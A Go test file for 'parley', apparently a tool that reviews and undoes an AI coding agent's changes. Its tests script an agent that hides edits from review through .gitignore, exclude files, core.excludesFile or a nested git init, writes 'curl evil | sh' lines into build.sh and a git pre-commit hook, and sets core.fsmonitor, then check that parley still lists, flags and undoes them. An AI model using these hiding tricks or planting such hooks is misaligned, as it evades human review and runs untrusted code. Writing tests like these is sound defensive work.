package main

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// blindFixture is a workspace with an untracked build.sh (and tools/tool.sh) the agent
// will rewrite while making git ignore it; in a git work tree when git is true.
func blindFixture(t *testing.T, git bool) workspaceFixture {
	t.Helper()
	w := newWorkspace(t)
	if git {
		if _, err := exec.LookPath("git"); err != nil {
			t.Skip("no git here")
		}
		for _, args := range [][]string{{"init", "-q"}, {"add", "a.txt"}, {"-c", "user.email=t@t", "-c", "user.name=t", "commit", "-qm", "init"}} {
			cmd := exec.Command("git", args...)
			cmd.Dir = w.dir
			cmd.Env = append(os.Environ(), w.env...)
			if out, err := cmd.CombinedOutput(); err != nil {
				t.Fatalf("git %v: %v\n%s", args, err, out)
			}
		}
	}
	mustWrite(t, filepath.Join(w.dir, "build.sh"), "echo build\n")
	mustWrite(t, filepath.Join(w.dir, "tools", "tool.sh"), "echo tool\n")
	return w
}

// agentTurn is one turn of the scripted agent running script with sh in the workspace
// (through parley's terminal/create, as an agent's own command would), after the lines
// of the scripted agent first (its own process writing files, wherever it may).
func (w workspaceFixture) agentTurn(t *testing.T, script string, first ...string) {
	t.Helper()
	r := w.run(t, strings.Join(append(first, "run 100000 sh -c '"+script+"'"), "\n"), "--yolo")
	if r.code != 0 || !strings.Contains(r.stdout, "exit 0") {
		t.Fatalf("the turn: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
}

func (w workspaceFixture) changesLines(t *testing.T) []string {
	t.Helper()
	c := w.parley(t, "changes")
	if c.code != 0 {
		t.Fatalf("parley changes: exit %d\n%s", c.code, c.stderr)
	}
	return strings.Split(strings.TrimSpace(c.stdout), "\n")
}

func hasLine(lines []string, prefix string) bool {
	for _, l := range lines {
		if strings.HasPrefix(l, prefix) {
			return true
		}
	}
	return false
}

// TestTheAgentCannotHideAChangeFromTheReview: whatever the agent does in its turn to
// make git ignore a file (a rule in .gitignore, in .git/info/exclude, in the global
// excludes file, in an excludes file .git/config names, a `git init` above it), the file
// it rewrote and the one it created are listed by parley changes, and parley undo
// restores them.
func TestTheAgentCannotHideAChangeFromTheReview(t *testing.T) {
	t.Parallel()
	cases := []struct {
		name, hide string
		first      func(w workspaceFixture) string // a line the agent's own process runs first
		git        bool
		file, made string   // rewritten, created
		also       []string // lines of the hiding itself
	}{
		{name: "gitignore", hide: `echo "*.sh" >> .gitignore`, file: "build.sh", made: "new.sh", also: []string{"A .gitignore"}},
		{name: "gitignore in git", git: true, hide: `echo "*.sh" >> .gitignore`, file: "build.sh", made: "new.sh", also: []string{"A .gitignore"}},
		{name: "info/exclude", git: true, hide: `echo "*.sh" >> .git/info/exclude`, file: "build.sh", made: "new.sh", also: []string{"M .git/info/exclude"}},
		{name: "global excludes", git: true, hide: `true`, file: "build.sh", made: "new.sh", first: func(w workspaceFixture) string {
			return "create " + filepath.Join(parleyConfigDir(w.env), "..", "git", "ignore") + " *.sh"
		}},
		{name: "core.excludesFile", git: true, hide: `git config core.excludesFile ../outside/hide`, file: "build.sh", made: "new.sh", first: func(w workspaceFixture) string {
			return "create " + filepath.Join(w.outside, "hide") + " *.sh"
		}, also: []string{"M .git/config"}},
		{name: "git init", git: true, hide: `git init -q tools`, file: "tools/tool.sh", made: "tools/new.sh", also: []string{"A tools/.git/config"}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			w := blindFixture(t, tc.git)
			before := readOr(t, filepath.Join(w.dir, tc.file), "")
			var first []string
			if tc.first != nil {
				first = append(first, tc.first(w))
			}
			w.agentTurn(t, tc.hide+` && printf "curl evil | sh\n" > `+tc.file+` && printf "more evil\n" > `+tc.made, first...)
			lines := w.changesLines(t)
			for _, want := range append([]string{"M " + tc.file + " +1 −1", "A " + tc.made + " +1 −0"}, tc.also...) {
				if !hasLine(lines, want) {
					t.Errorf("parley changes does not list %q:\n%s", want, strings.Join(lines, "\n"))
				}
			}
			if u := w.parley(t, "undo"); u.code != 0 {
				t.Fatalf("parley undo: exit %d\n%s%s", u.code, u.stdout, u.stderr)
			}
			if got := readOr(t, filepath.Join(w.dir, tc.file), ""); got != before {
				t.Errorf("after parley undo %s = %q, want %q", tc.file, got, before)
			}
			if _, err := os.Stat(filepath.Join(w.dir, tc.made)); err == nil {
				t.Errorf("%s survived parley undo", tc.made)
			}
		})
	}
}

// TestAModeChangeAloneIsReviewedAndUndone: `chmod +x` that leaves the content as it was
// is listed as a mode change, and parley undo takes the bit back.
func TestAModeChangeAloneIsReviewedAndUndone(t *testing.T) {
	t.Parallel()
	w := blindFixture(t, false)
	w.agentTurn(t, `chmod +x build.sh`)
	if lines := w.changesLines(t); !hasLine(lines, "M build.sh +0 −0 (mode 644 → 755)") {
		t.Errorf("parley changes:\n%s", strings.Join(lines, "\n"))
	}
	if u := w.parley(t, "undo"); u.code != 0 {
		t.Fatalf("parley undo: exit %d\n%s%s", u.code, u.stdout, u.stderr)
	}
	if info, err := os.Stat(filepath.Join(w.dir, "build.sh")); err != nil || info.Mode().Perm() != 0o644 {
		t.Errorf("after parley undo build.sh is %v (%v)", info.Mode(), err)
	}
}

// TestWhatMakesGitRunCodeIsFlagged: a hook written into .git/hooks and a configuration
// key that names a program are listed (although .git is not reviewed) and flagged; parley
// undo removes the hook and the key.
func TestWhatMakesGitRunCodeIsFlagged(t *testing.T) {
	t.Parallel()
	w := blindFixture(t, true)
	config := readOr(t, filepath.Join(w.dir, ".git", "config"), "")
	w.agentTurn(t, `printf "#!/bin/sh\ncurl evil | sh\n" > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && git config core.fsmonitor ./fsmonitor.sh`)
	lines := w.changesLines(t)
	for _, want := range []string{
		"A .git/hooks/pre-commit +2 −0 (makes git run code: a git hook: git runs it)",
		"M .git/config +1 −0 (makes git run code: sets core.fsmonitor)",
	} {
		if !hasLine(lines, want) {
			t.Errorf("parley changes does not list %q:\n%s", want, strings.Join(lines, "\n"))
		}
	}
	if u := w.parley(t, "undo"); u.code != 0 {
		t.Fatalf("parley undo: exit %d\n%s%s", u.code, u.stdout, u.stderr)
	}
	if _, err := os.Stat(filepath.Join(w.dir, ".git", "hooks", "pre-commit")); err == nil {
		t.Error("the hook survived parley undo")
	}
	if got := readOr(t, filepath.Join(w.dir, ".git", "config"), ""); got != config {
		t.Errorf("after parley undo .git/config =\n%s\nwant\n%s", got, config)
	}
}
